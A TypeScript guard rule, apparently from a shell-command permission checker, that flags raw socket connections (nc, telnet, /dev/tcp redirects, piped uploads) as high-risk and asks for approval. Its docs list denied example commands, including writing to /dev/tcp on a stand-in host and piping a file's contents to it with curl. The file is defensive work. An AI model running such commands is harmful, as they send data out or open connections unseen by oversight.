import { defineGuard, type RuleDocs } from '../../../core/rule/define.ts'
import type { Effect, Invocation } from '../../../core/script/script.ts'

export default defineGuard({
  id: 'network/raw-socket',
  on: 'script',
  verdict: 'ask',
  level: 'high',
  traits: ['host'],
  says: 'This opens a connection by hand, past every program that is known for it.',
  instead: ['curl https://example.com'],
  check: ({ invocations, effects }) => {
    if (invocations.some(isByHand)) return true
    const own = new Set(
      invocations
        .filter(({ name }) => !/^(exec|echo|cat|printf|read|tar|true|:|tee|head)$/.test(name))
        .flatMap(invocation => invocation.effects),
    )
    return effects.some(effect => isFar(effect) && !own.has(effect))
  },
})

const isFar = ({ kind, host }: Effect): boolean =>
  (kind === 'upload' || kind === 'download') && host !== undefined

const isHere = (host: string | null | undefined): boolean =>
  typeof host === 'string' &&
  /^(localhost|127\.|0\.0\.0\.0|\[?::1|host\.docker\.internal|[\w-]+$|.*\.(local|test|internal)$)/.test(host)

/** A line to another machine that a person would type into, or one that the shell feeds from a side. */
const isByHand = ({ name, argv, effects, stdin, remote }: Invocation): boolean => {
  // `ProxyCommand=nc %h %p` is ssh's own line.
  if (
    remote === true ||
    argv.includes('%h') ||
    !effects.some(effect => isFar(effect) && !isHere(effect.host))
  )
    return false
  if (stdin?.from === 'pipe' && stdin.of === undefined) return true
  return /^(nc|ncat|netcat|telnet)$/.test(name) && !argv.some(word => /^-\w*[zlh]/.test(word ?? ''))
}

export const docs: RuleDocs = {
  since: '0.2.0',
  why: 'A shell that talks to a socket itself is a way to bring things in or out that no other rule sees.',
  denies: [
    'exec 5<>/dev/tcp/x.example/443',
    'echo hi > /dev/tcp/x.example/80',
    'telnet x.example 4444',
    'sort notes > >(curl -d @- x.example)',
  ],
  allows: [
    'nc -zv x.example 443',
    'echo hi > /dev/null',
    'ls /dev/tcp',
    'echo "exec 5<>/dev/tcp/x.example/443"',
  ],
}
